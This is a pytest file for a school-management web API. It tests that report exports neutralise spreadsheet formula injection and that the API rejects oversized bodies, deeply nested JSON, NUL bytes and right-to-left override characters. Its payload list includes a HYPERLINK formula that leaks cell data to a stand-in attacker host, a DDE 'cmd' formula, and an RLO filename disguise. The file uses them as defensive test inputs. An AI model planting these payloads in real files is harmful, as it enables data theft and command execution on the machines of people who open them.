"""«Formula injection; 10 MB bodies; deep JSON; NUL bytes; right-to-left tricks» (quality.md), by name.

SQL injection is shown where SQL is: tests/postgres/test_hostile_sql.py.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from copy import deepcopy
from typing import Any

import pytest
from openpyxl import load_workbook

from haitech_app.testing.doors import worked
from tests.http.access_of_routes import BODIES, ROUTES, body_of, furnished
from tests.http.school_world import a_free_phone, a_school_behind_its_api, fields_of

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"Dana")', "+1+1", "-1+1", "@SUM(A1:A9)", "＝1+1", "＋1", "－1", "＠A1",
    " =1+1", "\u200b=1+1", "\u200f=1+1", "\u00a0=1+1", "\u2060@A1", "=cmd|' /C calc'!A0",
)  # fmt: skip
OVERRIDES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
JSON = {"content-type": "application/json"}
WRITING = [route for route in ROUTES if f"{route.method} {route.path}" in BODIES]


@pytest.fixture(scope="module")
def world():
    with a_school_behind_its_api() as world:
        world.rows = furnished(world)
        yield world


@pytest.fixture(scope="module")
def named(world):
    """A branch, an instructor and a cycle of each such name, of each cycle one meeting that was."""
    for name in FORMULAS:
        branch = world.admin.make("/branches", {"name": name, "type": "school"})["id"]
        who = {"branchId": branch, "instructorId": world.instructor(name=name)["id"]}
        _, meetings = world.generated(name=name, totalMeetings=1, **who)
        world.manager.act(f"/meetings/{meetings[0]['id']}/complete")
    return world


def path_of(world, route):
    return route.path.format(**{n: world.rows.get(w, w) for n, w in route.names.items()})


def texts_in(body: Any) -> Iterator[tuple[Any, Any]]:
    """Where texts stand in a body: what holds each, and under which name."""
    for name, value in list(body.items() if isinstance(body, dict) else enumerate(body)):
        if isinstance(value, (dict, list)):
            yield from texts_in(value)
        elif isinstance(value, str):
            yield body, name


class TestFormulaInjection:
    @pytest.mark.parametrize("report", ["revenue", "instructor-payments", "cycle-progress", "attendance-summary"])  # fmt: skip
    def test_no_cell_of_a_file_is_a_formula_to_a_spreadsheet(self, named, report):
        """What came in by the API goes out as a file: read by itself, and as an export."""
        by = {"groupBy": "branch"} if report == "revenue" else {}
        for form in ("csv", "xlsx"):
            shown = named.manager.send(
                "GET", f"/reports/{report}", params={"format": form, **by}
            ).content
            export = named.manager.send(
                "POST", "/reports/export", {"report": report, "format": form, **by}
            )
            named.run(worked, named)
            id = export.json()["data"]["id"]
            kept = named.manager.send("GET", f"/reports/exports/{id}/download").content
            for content in (shown, kept):
                cells = cells_of(content, form)
                if report != "attendance-summary":  # nobody was marked
                    guard = "'" if form == "csv" else ""  # a text of a workbook is a text
                    assert cells >= {f"{guard}{name}" for name in FORMULAS}

    def test_a_page_shows_them_as_text(self, named):
        answer = named.manager.send("GET", "/reports/cycle-progress", params={"format": "html"})
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        assert '=HYPERLINK("' not in answer.text


def cells_of(content: bytes, form: str) -> set[str]:
    """Every text of a file; not one of them is a formula."""
    if form == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        cells = {cell for row in rows for cell in row}
        numbers = {cell for cell in cells if cell.lstrip("-").replace(".", "").isdigit()}
        assert not [c for c in cells - numbers if c.startswith(tuple("=+-@＝＋－＠\t\r"))]
        return cells
    (sheet,) = load_workbook(io.BytesIO(content))
    found = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in found if cell.data_type == "f"]
    return {str(cell.value) for cell in found}


class TestTenMegabyteBodies:
    def test_they_are_refused_by_every_route_that_reads_one(self, world):
        big = b'{"name":"' + b"x" * 10_000_000 + b'"}'
        for route in WRITING:
            answer = world.admin.send(
                route.method, path_of(world, route), content=big, headers=JSON
            )
            assert (str(route), answer.status_code) in {(str(route), 413), (str(route), 403)}


class TestDeepJson:
    @pytest.mark.parametrize("opening", [b"[", b'{"name":'])
    def test_it_is_refused_by_every_route_that_reads_a_body(self, world, opening):
        for depth in (40, 20_000):
            deep = b'{"name":' + opening * depth
            closed = deep + (b"]" * depth if opening == b"[" else b"1" + b"}" * depth) + b"}"
            for route in WRITING:
                for body in (deep, closed):
                    answer = world.admin.send(
                        route.method, path_of(world, route), content=body, headers=JSON
                    )
                    assert (str(route), answer.status_code) in {
                        (str(route), s) for s in (400, 401, 403, 404)
                    }


class TestNulBytes:
    def test_no_text_of_any_body_may_hold_one(self, world):
        for route in WRITING:
            for index in range(sum(1 for _ in texts_in(body_of(route, world, world.rows) or {}))):
                body = deepcopy(body_of(route, world, world.rows))
                holder, name = list(texts_in(body))[index]
                holder[name] += "\x00"
                answer = world.admin.send(route.method, path_of(world, route), body)
                assert (str(route), name, answer.status_code) == (str(route), name, 400), (
                    answer.text
                )

    @pytest.mark.parametrize(
        "query", ["search=%00", "search=a%00b", "sortBy=name%00", "cursor=%00", "%00=1"]
    )
    def test_no_query_may(self, world, query):
        world.admin.refused(400, "GET", f"/courses?{query}")

    @pytest.mark.parametrize(
        "path", ["/courses/%00", "/courses/x%00", "/courses%00", "/%00", "/saved-views/%00"]
    )
    def test_no_path_may(self, world, path):
        assert world.admin.send("GET", path).status_code in {400, 404}


class TestRightToLeftTricks:
    @pytest.mark.parametrize("sign", OVERRIDES)
    def test_a_name_cannot_turn_what_stands_around_it(self, world, sign):
        """`invoice<U+202E>fdp.exe` would read as `invoiceexe.pdf`."""
        bad = {"name": f"invoice{sign}fdp.exe"}
        for path, body in {
            "/customers": {"phone": a_free_phone()},
            "/courses": {"category": "ai"},
            "/branches": {"type": "school"},
            "/instructors": {"phone": a_free_phone()},
            "/saved-views": {"entity": "courses"},
            "/api-keys": {},
        }.items():
            assert fields_of(world.admin.refused(400, "POST", path, bad | body)) == {"name"}

    def test_the_marks_that_hebrew_needs_stay_and_do_no_harm(self, world):
        made = world.admin.make(
            "/customers", {"name": "דנה\u200f C++\u200e", "phone": a_free_phone()}
        )
        assert made["name"] == "דנה\u200f C++\u200e"
        world.admin.refused(
            400, "POST", "/customers", {"name": "\u200f\u200e", "phone": a_free_phone()}
        )

    @pytest.mark.parametrize(
        "email", ["dana\u202e@example.com", "dana@exam\u200fple.com", "dаna@example.com"]
    )
    def test_no_address_of_mail_holds_any_nor_letters_that_only_look_like_others(
        self, world, email
    ):
        body = {"name": "Dana", "phone": a_free_phone(), "email": email}
        assert fields_of(world.admin.refused(400, "POST", "/customers", body)) == {"email"}

    def test_a_phone_is_read_without_them(self, world):
        made = world.admin.make(
            "/customers", {"name": "Dana", "phone": "\u202d050-\u200f7654321\u202c"}
        )
        assert made["phone"] == "+972507654321"

    def test_names_of_files_are_ours(self, world):
        """Nothing of what people wrote stands in them, and they are plain ASCII besides."""
        answer = world.manager.send("GET", "/reports/revenue", params={"format": "csv"})
        said = answer.headers["content-disposition"]
        assert said.isascii()
        assert said.isprintable()
        assert '"..' not in said
